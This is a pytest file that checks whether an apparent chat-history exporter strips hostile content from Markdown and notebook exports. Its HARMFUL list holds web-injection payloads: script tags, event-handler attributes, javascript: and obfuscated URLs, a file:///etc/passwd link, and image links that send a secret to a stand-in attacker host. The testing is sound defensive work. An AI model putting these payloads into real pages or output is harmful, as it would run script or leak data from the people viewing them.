"""What exports show of a message that means harm to whoever looks at them."""

from __future__ import annotations

import json

import pytest
from attrs import evolve

from oi_engine.history.export import to_markdown, to_notebook
from oi_engine.history.export.harmless import is_harmless_markdown
from oi_engine.history.importing import read_messages
from oi_engine.messages import Message, Role

AT = "2024-05-06T07:08:09.123+00:00"
# What the message may do to whoever looks at an export of it. The last ones hide it from a careless look.
HARMFUL = [
    "![](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: //evil.example/x.png",
    "![x](\\\\evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "text <iframe src='https://evil.example'></iframe>",
    "[click](javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](java&Tab;script:alert(1))",
    "<javascript:alert(1)>",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "<b onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<style>@import 'https://evil.example';</style>",
    "<!--><script>alert(1)</script>-->",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<details open ontoggle=alert(1)>",
    "<p>x</p\n\n<img src=https://evil.example/x.png",
]
HARMLESS = [
    "![plot](plots/a.png) and [a page](https://example.org), <https://example.org> or [here](#top)",
    "`<script>` and\n\n```html\n<img src=https://example.org/x.png>\n```\n",
    "<table border='1' class='dataframe'><tr style='text-align: right;'><td>1 &lt; 2</td></tr></table>",
    "a < b, a<b, *c* and $x$",
]


@pytest.mark.parametrize("text", HARMFUL)
@pytest.mark.parametrize("role", ["user", "assistant", "computer"])
def test_exports_run_and_load_nothing(text: str, role: Role) -> None:
    said = [Message(role, "message", text, id="m", created_at=AT)]
    written = to_markdown(said, text)
    assert is_harmless_markdown(written), written
    notebook = json.loads(to_notebook(said, text))
    for cell in notebook["cells"]:
        assert cell["cell_type"] == "markdown"
        assert is_harmless_markdown(cell["source"]), cell["source"]
    assert read_messages(json.dumps(notebook)) == said


@pytest.mark.parametrize("text", [each for each in HARMFUL if each.startswith("<") and "<java" not in each])
def test_html_that_runs_or_loads_is_in_no_output_and_no_cell(text: str) -> None:
    ran = [
        Message("assistant", "code", text, "html", id="c", created_at=AT),
        Message("computer", "console", "", "output", id="o", parent="c", created_at=AT),
        Message("computer", "code", text, "html", id="h", parent="c", created_at=AT),
    ]
    notebook = json.loads(to_notebook(ran))
    assert not any(cell["cell_type"] == "code" for cell in notebook["cells"])
    shown = [evolve(ran[0], format="python", content="1"), *ran[1:]]
    (cell,) = json.loads(to_notebook(shown))["cells"]
    assert [list(output["data"]) for output in cell["outputs"]] == [["text/plain"]]
    assert text not in json.dumps(cell["outputs"])
    for messages in (ran, shown):
        assert read_messages(to_notebook(messages)) == messages


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_left_as_it_is(text: str) -> None:
    assert f"\n\n{text}" in to_markdown([Message("assistant", "message", text)])


def test_pictures_and_languages_break_out_of_nothing() -> None:
    hostile = "x) ![](https://evil.example/"
    said = [
        Message("computer", "image", hostile, "base64.png"),
        Message("computer", "image", "//evil.example/x.png", "path"),
        Message("assistant", "code", "1", "python\n```\n<script>alert(1)</script>"),
    ]
    written = to_markdown(said)
    assert is_harmless_markdown(written), written
    assert "](/evil.example/x.png)" in written
